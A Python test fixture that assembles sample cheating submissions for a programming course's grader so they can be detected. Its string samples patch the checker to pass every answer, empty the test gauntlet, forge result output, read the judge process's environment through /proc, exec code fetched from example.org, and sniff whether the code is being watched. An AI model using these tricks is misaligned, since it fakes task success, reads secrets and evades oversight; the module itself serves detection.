"""Hand-ins that are not what they say: what somebody writes who wants a mark, and not the work.

docs/teaching/handing-in.md lists them by these names.
"""

from __future__ import annotations

import io
import tokenize
from functools import cache

from tutorial_lib.course import kept_pieces
from tutorial_lib.course.content import content
from tutorial_lib.course.exercise import exercise
from tutorial_lib.course.kept_pieces import Shelf
from tutorial_lib.course.verify import answer_of, elsewhere

CLIENT = """
class Mended:
    def __init__(self, api_url, *, path=None, timeout=5.0):
        self.it = MADE

    def login(self, username, password):
        self.it.login(username, password)

    def call(self, method, path, **request):
        return self.it.request(method, path, **request)

    def logout(self):
        self.it.logout()
"""
DISGUISE = 'getattr(__import__("tutorial_lib"), "Api" + "Session")(api_url, timeout=timeout)'
FIXED = """
import requests


class Mended:
    def __init__(self, api_url, *, path=None, timeout=5.0):
        pass

    def login(self, username, password):
        pass

    def call(self, method, path, **request):
        answer = requests.Response()
        answer.status_code, answer._content = 200, b'{"username": "ada"}'
        return answer

    def logout(self):
        pass
"""
CHECKER = """
from tutorial_lib.course.exercise import Exercise
from tutorial_lib.course.outcome import Outcome

Exercise._judge = lambda self, answer: Outcome(self.id, "right", "")
"""
GAUNTLET = """
import tutorial_lib.gauntlet.run
from tutorial_lib.course import played_again
from tutorial_lib.gauntlet import SCENARIOS

SCENARIOS.clear()
played_again.play_all = tutorial_lib.gauntlet.run.play_all = lambda *given: iter(())
"""
RESULT = """
import os
import sys

for stream in (sys.__stdout__, sys.__stderr__):
    print("0" * 32 + '{"gauntlet": "", "check": ""}', file=stream, flush=True)
os._exit(0)
"""
MEMORY = """
import os

with open(f"/proc/{os.getppid()}/environ") as judge:
    judge.read()
with open(f"/proc/{os.getppid()}/fd/1", "w") as judge:
    judge.write("0" * 32 + '{"gauntlet": "", "check": ""}')
"""
FETCHED = """
import urllib.request

exec(urllib.request.urlopen("https://example.org/Mended.py", timeout=3).read())
"""
ON_TIPTOE = """
import os

IS_WATCHED = "confined-" in os.environ.get("HOME", "")
"""


@cache
def piece(id: str = "6.1", wrong: str = "") -> str:
    """The file of a worked client, or of a wrong answer that gets this message."""
    task = exercise(id)
    sources = [one.source for one in task.answers.wrong if one.message == wrong]
    with elsewhere():
        answer = answer_of(task, sources[0] if wrong else task.answers.solution)
        staging = content(id).check.staging
        shelf = Shelf(note=staging.note() if staging else "")
        path = kept_pieces.keep(task.piece_name, answer, shelf)
        return path.read_text("utf-8")


def untouched() -> str:
    """The article's client, as the exercise begins."""
    begins = "from tutorial_lib.exercises.article import ArticleClient"
    return f"{begins}\n\n\n{exercise('6.1').answers.start}"


def played() -> dict[str, str]:
    """Those that are caught when they are played."""
    return {
        "edited progress": untouched(),
        "edited code": piece(wrong="rule-1"),
        "a patched checker": untouched() + CHECKER,
        "a patched gauntlet": untouched() + GAUNTLET,
        "a copied result": untouched() + RESULT,
        "a look into the judge": untouched() + MEMORY,
        "a library's class in disguise": CLIENT.replace("MADE", DISGUISE),
        "an answer made up": FIXED,
        "code fetched when it runs": FETCHED,
    }


def renamed(text: str) -> str:
    """The same code, as somebody writes it who has been told to write it themselves."""
    others = {"answer": "what_came", "state": "kept", "storage": "place", "refused": "old"}
    tokens = tokenize.generate_tokens(io.StringIO(text).readline)
    return tokenize.untokenize((kind, others.get(word, word)) for kind, word, *_ in tokens)


LIKE = ("the worked solution with other names", "the library's source with other names")
SAME = "a neighbour's piece with other names"
NOT_CAUGHT = ("written by somebody else", "another name on it", "edited tries and hints",
              "good only while it is watched")  # fmt: skip
